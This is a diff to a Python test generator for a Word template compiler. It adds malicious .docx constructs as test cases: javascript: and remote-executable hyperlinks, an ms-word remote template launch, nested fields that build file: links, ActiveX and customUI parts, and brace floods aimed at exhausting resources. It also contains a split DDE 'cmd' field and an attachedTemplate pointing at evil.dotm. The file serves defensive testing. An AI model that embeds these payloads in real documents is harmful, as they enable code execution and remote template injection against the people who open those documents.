@@ -331,6 +331,43 @@ def _remote() -> Iterator[Case]:
         yield Case(
             f"simple field {code.split()[0]}", made(body + f"<w:p><w:fldSimple w:instr='{code}'/></w:p>")
         )
+    for target in (
+        "javascript:alert(1)",
+        "file:////host/x.exe",
+        "ms-word:ofe|u|https://x/a.dotm",
+        "a.exe",
+        "%66ile:///x",
+    ):
+        link = f'<Relationship Id="rId9" Type="{R}/hyperlink" Target="{target}" TargetMode="External"/></Relationships>'
+        yield Case(f"fixed link to {target}", made(body, changes={RELS: [("</Relationships>", link)]}))
+        for code in (f'HYPERLINK "{target}"', f"HYPERLINK {target}", f'hyperlink \\o "https://x" "{target}"'):
+            field = f"<w:p><w:r><w:instrText> {code} </w:instrText></w:r></w:p>"
+            yield Case(f"field {code}", made(body + field))
+    nested = (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK "</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "file:"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+    yield Case("link made up by a field", made(body + nested))
+    for name, code in (
+        ("web", 'HYPERLINK "https://x.cn/a?b=1" \\o "提示"'),
+        ("bookmark", 'HYPERLINK \\l "书签"'),
+    ):
+        field = f"<w:p><w:r><w:instrText> {code} </w:instrText></w:r></w:p>"
+        yield Case(f"link to a {name}", made(body + field), outcome="harmless")
+    for kind, attribute in (("imagedata", "src"), ("fill", "src"), ("shape", "href")):
+        drawn = f'<v:{kind} xmlns:v="urn:schemas-microsoft-com:vml" {attribute}="file:///c:/x.png"/>'
+        yield Case(f"old drawing: {kind}", made(body + f"<w:p><w:r><w:pict>{drawn}</w:pict></w:r></w:p>"))
+    for part, kind in (
+        ("word/activeX/activeX1.xml", "control"),
+        ("customUI/customUI.xml", ""),
+        ("word/any.xml", "aFChunk"),
+        ("word/any.bin", "control"),
+    ):
+        link = f'<Relationship Id="rId9" Type="{R}/{kind}" Target="/{part}"/></Relationships>'
+        changes = {RELS: [("</Relationships>", link)]} if kind else {}
+        yield Case(f"active part {part} {kind}", made(body, {part: "<a/>"}, changes))
     split = "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd x</w:instrText></w:r></w:p>"
     yield Case("field in pieces", made(body + split))
     attached = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{R}/attachedTemplate" Target="https://x.example/evil.dotm" TargetMode="External"/></Relationships>'
@@ -345,6 +382,8 @@ def _slow() -> Iterator[Case]:
         made(p("{ " * 500_000) + p("{{p 标题 }}") + p("{{p 全文 }}") + p("{{p 落款 }}")),
         outcome="harmless",
     )
+    yield Case("a great many {", made(p("{" * 1_000_000)))
+    yield Case("many {%p", made(p("{%p " * 60_000)))
     yield Case("many ｛｛", made(p("｛｛" * 100_000)))
     yield Case("many {%-", made(p("{%-" * 50_000)))
     yield Case("many -%}", made(p("-%}" * 50_000)))
@@ -432,6 +471,7 @@ def _try(case: Case) -> str:
     import encodings.utf_16_le  # noqa: F401  # imported late where a file is no .docx; the watch is on what cases do
 
     import compiler.folder  # noqa: F401
+    from compiler.checkup import examine
     from compiler.diagnostics import CompileError
     from compiler.word.template import Template
     from tests.support import flow_of
@@ -460,6 +500,11 @@ def _try(case: Case) -> str:
             one.message("zh"), one.message("en"), one.hint("zh"), one.hint("en")
     except BaseException as error:
         outcome = f"{type(error).__name__}: {error}"[:300]
+    if case.data is None:  # what a check says of it costs no more
+        try:
+            examine(case.template, "mine.docx")
+        except BaseException as error:
+            outcome = f"checked: {type(error).__name__}: {error}"[:300]
     watching.clear()
     return broken[0] if broken else outcome
 
@@ -482,11 +527,13 @@ def _alone(case: Case) -> str:
 
 def main() -> None:
     """Try them all; print outcome and what was wanted, by name."""
+    from compiler.checkup import examine
     from compiler.word.template import Template
 
     # What is imported and looked up once is done before: what a case then opens is its own doing.
     rows = table(tr("{%tr for x in xs %}"), tr("{{ x|默认('无') }}"), tr("{%tr endfor %}"))
     Template.compile(made(rows), "a", free=True).fill({"xs": [1]})
+    examine(made(rows), "a")
     json.dump({case.name: (_alone(case), case.outcome) for case in cases()}, sys.stdout)
 
 
